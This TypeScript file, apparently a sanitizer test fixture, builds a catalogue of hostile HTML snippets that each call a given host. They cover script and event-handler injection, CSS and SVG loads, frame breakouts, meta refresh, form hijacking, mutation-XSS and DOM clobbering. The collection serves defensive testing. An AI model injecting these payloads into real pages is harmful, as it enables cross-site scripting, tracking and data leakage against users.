/** HTML that wants to load, run, lead elsewhere or leave its frame, by what it tries; `to` is whom it calls. */
export function hostileSignatures(to: string): Readonly<Record<string, string>> {
  const host = new URL(to).host;
  return {
    "script element": `<script>fetch("${to}/script")</script><script src="${to}/script-src"></script>`,
    "event handlers": `<b onclick="location='${to}/click'" onmouseover="fetch('${to}/over')">b</b><img src=x onerror="fetch('${to}/error')"><body onload="fetch('${to}/load')"><input autofocus onfocus="fetch('${to}/focus')"><details open ontoggle="fetch('${to}/toggle')">d</details>`,
    "links that load early": `<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="//${host}"><link rel="preload" as="image" href="${to}/preload"><link rel="prefetch" href="${to}/prefetch"><link rel="modulepreload" href="${to}/module"><link rel="icon" href="${to}/icon"><link rel="manifest" href="${to}/manifest">`,
    "style sheets": `<link rel="stylesheet" href="${to}/link.css"><style>@import "${to}/import.css"; body { background: url(${to}/body.png) } @font-face { font-family: x; src: url(${to}/font) }</style><p style="font-family: x">styled</p>`,
    "addresses in styles": `<p style="background:url(${to}/style)">a</p><p style="background-image:image-set('${to}/set' 1x)">b</p><p style="list-style:url(${to}/list)">c</p><p style="cursor:url(${to}/cursor),auto">d</p><p style="background:\\75rl(${to}/escaped)">e</p><p style="color:red;/*x*/background:u/**/rl(${to}/comment)">f</p><p style="border-image:url(${to}/border)">g</p><p style="content:url(${to}/content);--x:url(${to}/var);background:var(--x)">h</p><p style="width:expression(alert(1));behavior:url(${to}/htc);-moz-binding:url(${to}/xbl)">i</p>`,
    images: `<img src="${to}/image"><img srcset="${to}/set1 1x, ${to}/set2 2x"><picture><source srcset="${to}/source"><img src="${to}/fallback"></picture><img src="//${host}/relative"><img lowsrc="${to}/low" dynsrc="${to}/dyn"><input type="image" src="${to}/input"><table background="${to}/table"><tr><td background="${to}/td">t</td></tr></table><body background="${to}/body">`,
    "images of the vector kind": `<svg><image href="${to}/svg-image" xlink:href="${to}/xlink"/><use href="${to}/use#a"/><foreignObject><img src="${to}/foreign"></foreignObject><style>* { background: url(${to}/svg-style) }</style><script>fetch("${to}/svg-script")</script><a xlink:href="${to}/svg-link"><text>x</text></a><animate attributeName="href" to="${to}/animate"/><set attributeName="onload" to="fetch('${to}/set')"/></svg><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${to}/data-svg'/%3E%3C/svg%3E">`,
    media: `<video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio><object data="${to}/object"></object><embed src="${to}/embed"><applet code="${to}/applet"></applet><video><track src="${to}/track"></video>`,
    frames: `<iframe src="${to}/iframe"></iframe><iframe srcdoc="<img src='${to}/srcdoc'>"></iframe><frameset><frame src="${to}/frame"></frameset><portal src="${to}/portal"></portal><fencedframe src="${to}/fenced"></fencedframe>`,
    "refreshing meta": `<meta http-equiv="refresh" content="0;url=${to}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url">`,
    base: `<base href="${to}/base/" target="_top"><a href="leaf">leaf</a><img src="leaf.png">`,
    links: `<a href="${to}/link" ping="${to}/ping" target="_top">top</a><a href="javascript:fetch('${to}/js')">js</a><a href="data:text/html,x">data</a><area href="${to}/area"><a href="${to}/download" download>down</a><a href="mailto:x@y.example?body=z">mail</a>`,
    forms: `<form action="${to}/form" method="post" target="_top"><input name="a" value="b"><button formaction="${to}/button">send</button><input type="submit" value="Send"></form><isindex action="${to}/isindex">`,
    "ends of the frame": `"></iframe><h1 id="evil">out</h1><script>fetch("${to}/out")</script>`,
    "ends of the attribute": `' " &quot;></iframe>--></srcdoc></body></html><img src=x onerror=fetch("${to}/attribute")>`,
    "raw text that hides markup": `<noscript><p title="</noscript><img src=${to}/noscript onerror=1>"></noscript><textarea><img src=${to}/a></textarea><title></title><img src="${to}/title"><xmp><img src=${to}/xmp></xmp><plaintext><img src=${to}/plain>`,
    "foreign namespaces": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${to}/mxss onerror=1&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=${to}/svgmxss>">`,
    overlays: `<div style="position:fixed;inset:0;z-index:99999;background:red">over</div><div style="position:absolute;top:-500px;transform:scale(50)">far</div><dialog open popover>dialog</dialog>`,
    "names of properties": `<img name="documentElement"><form id="body"></form><a id="location" href="${to}/clobber">c</a>`,
    templates: `<template><img src="${to}/template"></template><template shadowrootmode="open"><img src="${to}/shadow"></template><slot></slot><custom-element onclick="x">c</custom-element>`,
  };
}
